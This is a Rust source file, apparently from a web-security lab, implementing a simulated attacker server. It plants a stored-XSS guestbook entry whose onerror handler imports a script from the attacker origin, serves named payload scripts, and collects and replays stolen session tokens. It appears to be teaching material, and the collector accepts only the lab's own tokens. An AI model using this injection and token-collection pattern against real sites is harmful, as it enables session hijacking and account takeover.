//! The attacker's own site: payloads, pages that forge requests, and a server that collects and replays.

use super::{
    LabState, assets,
    credentials::{SESSION, value_in},
    thief,
    visitors::{Visit, note},
    walls::InLab,
};
use crate::{
    lab::{
        Attack,
        evidence::{Credential, FINISHED, Loot},
    },
    server::id::LabId,
};
use axum::{
    Json, Router,
    extract::{Path, Query, State},
    http::{HeaderValue, StatusCode, header::CONTENT_TYPE},
    response::{IntoResponse, Response},
    routing::{get, post},
};
use serde::Deserialize;
use tower_http::cors::{Any, CorsLayer};

/// The most notes of one message, and the most characters of each.
const MAX_NOTES: usize = 8;
const MAX_NOTE: usize = 200;

/// The attacker's pages and calls.
pub fn router(state: &LabState) -> Router<LabState> {
    // The control room may read the attacker's notebook; the payloads go wherever they were planted.
    let control = HeaderValue::try_from(&state.origins.control.origin).ok();
    let for_control = CorsLayer::new().allow_origin(control.into_iter().collect::<Vec<_>>());
    let for_all = CorsLayer::new().allow_origin(Any);
    let notebook = Router::new()
        .route("/{lab}/notebook", get(notebook))
        .route("/{lab}/plant/{attack}", post(plant))
        .layer(for_control);
    let collector = Router::new()
        .route("/{lab}/payloads/{run}/{name}", get(payload))
        .route("/{lab}/collect/{run}", post(collect).get(collect_by_navigation))
        .layer(for_all);
    assets::router()
        .merge(notebook)
        .merge(collector)
        .route("/forge.js", get(assets::script(include_str!("pages/forge.js"))))
        .route("/{lab}", get(page))
}

/// The attacker's page; with an attack, it forges requests to the victim.
async fn page(State(state): State<LabState>, InLab(lab): InLab) -> Response {
    let values = [("lab", &*lab.to_string()), ("victim", &state.origins.victim.origin)];
    assets::page(include_str!("pages/attacker.html"), &values).into_response()
}

/// What the injected scripts are.
async fn payload(InLab(_): InLab, Path((_, _, name)): Path<(String, u32, String)>) -> Response {
    let text = match &*name {
        "spy.js" => include_str!("pages/payloads/spy.js"),
        "xss-reads.js" => include_str!("pages/payloads/xss-reads.js"),
        "xss-rides.js" => include_str!("pages/payloads/xss-rides.js"),
        "xss-refreshes.js" => include_str!("pages/payloads/xss-refreshes.js"),
        "fetch-hook.js" => include_str!("pages/payloads/fetch-hook.js"),
        "heap.js" => include_str!("pages/payloads/heap.js"),
        "heap-scan.js" => include_str!("pages/payloads/heap-scan.js"),
        "heap-after-sign-out.js" => include_str!("pages/payloads/heap-after-sign-out.js"),
        _ => return StatusCode::NOT_FOUND.into_response(),
    };
    assets::script(text).into_response()
}

/// Writes the payload into the victim's guestbook, as any customer could, if the attack has one.
async fn plant(
    State(state): State<LabState>,
    InLab(lab): InLab,
    Path((_, attack)): Path<(String, String)>,
) -> StatusCode {
    let Ok(attack) = attack.parse::<Attack>() else {
        return StatusCode::NOT_FOUND;
    };
    if !attack.is_script() {
        return StatusCode::NO_CONTENT;
    }
    let run = state.visitors.with(lab, |visit| visit.run).unwrap_or_default();
    let url = format!("{}/{lab}/payloads/{run}/{}.js", state.origins.attacker.origin, attack.as_str());
    let entry = format!(r#"What a lovely bank! <img src="x" alt="" onerror="import('{url}')">"#);
    match state.thief.write(lab, entry).await {
        Ok(()) => StatusCode::NO_CONTENT,
        Err(_) => StatusCode::BAD_GATEWAY,
    }
}

/// What an injected script sends when it has come to its end.
#[derive(Deserialize)]
struct Message {
    #[serde(default)]
    notes: Vec<String>,
    loot: Option<Stolen>,
}

#[derive(Deserialize)]
struct Stolen {
    credential: Credential,
    value: String,
    proof: Option<String>,
}

impl Stolen {
    /// Whether it is a token of this lab: the collector takes nothing else, so nobody's own secrets can end up in it.
    fn is_of(&self, state: &LabState, lab: LabId) -> bool {
        let token = match self.credential {
            Credential::Bearer => Some(&*self.value),
            Credential::Cookie => value_in(&self.value, SESSION),
        };
        token.is_some_and(|token| state.tokens.is_of(token, lab))
    }
}

/// The message, when it came by way of an address.
#[derive(Deserialize)]
struct ByAddress {
    message: String,
}

async fn collect(
    State(state): State<LabState>,
    InLab(lab): InLab,
    Path((_, run)): Path<(String, u32)>,
    message: String,
) -> StatusCode {
    receive(&state, lab, run, &message, "fetch")
}

async fn collect_by_navigation(
    State(state): State<LabState>,
    InLab(lab): InLab,
    Path((_, run)): Path<(String, u32)>,
    Query(query): Query<ByAddress>,
) -> Response {
    match receive(&state, lab, run, &query.message, "navigation") {
        StatusCode::NO_CONTENT => page(State(state), InLab(lab)).await,
        status => status.into_response(),
    }
}

/// Takes a message of the present run; one of an earlier run comes too late to prove anything.
fn receive(state: &LabState, lab: LabId, run: u32, message: &str, via: &str) -> StatusCode {
    let Ok(Message { notes, loot }) = serde_json::from_str(message) else {
        return StatusCode::BAD_REQUEST;
    };
    if loot.as_ref().is_some_and(|loot| !loot.is_of(state, lab)) {
        return StatusCode::FORBIDDEN;
    }
    let at = state.clock.now().as_millis();
    let loot = loot.map(|Stolen { credential, value, proof }| Loot {
        at,
        via: via.to_owned(),
        credential,
        value,
        proof,
        replays: Vec::new(),
    });
    let kept = state.visitors.peek(lab, |visit| if visit.run == run { keep(visit, notes, loot) } else { Ok(None) });
    match kept {
        Some(Ok(Some(index))) => {
            tokio::spawn(thief::replay(state.clone(), lab, run, index));
            StatusCode::NO_CONTENT
        }
        Some(Ok(None)) => StatusCode::NO_CONTENT,
        Some(Err(())) => StatusCode::PAYLOAD_TOO_LARGE,
        None => StatusCode::NOT_FOUND,
    }
}

/// Where the loot is kept, if there is any.
fn keep(visit: &mut Visit, notes: Vec<String>, loot: Option<Loot>) -> Result<Option<usize>, ()> {
    let kept = loot.map(|loot| visit.keep_loot(loot).ok_or(())).transpose()?;
    for text in notes.into_iter().take(MAX_NOTES) {
        note(&mut visit.evidence.reports, text.chars().take(MAX_NOTE).collect());
    }
    note(&mut visit.evidence.reports, FINISHED.to_owned());
    Ok(kept)
}

/// What the attacker has: its screen.
async fn notebook(State(state): State<LabState>, InLab(lab): InLab) -> Response {
    let loot =
        state.visitors.with(lab, |visit| (visit.run, visit.evidence.loot.clone(), visit.evidence.reports.clone()));
    let (run, loot, reports) = loot.unwrap_or_default();
    let now = state.clock.now().as_millis();
    let body = serde_json::json!({ "run": run, "now": now, "loot": loot, "reports": reports });
    ([(CONTENT_TYPE, "application/json")], Json(body)).into_response()
}
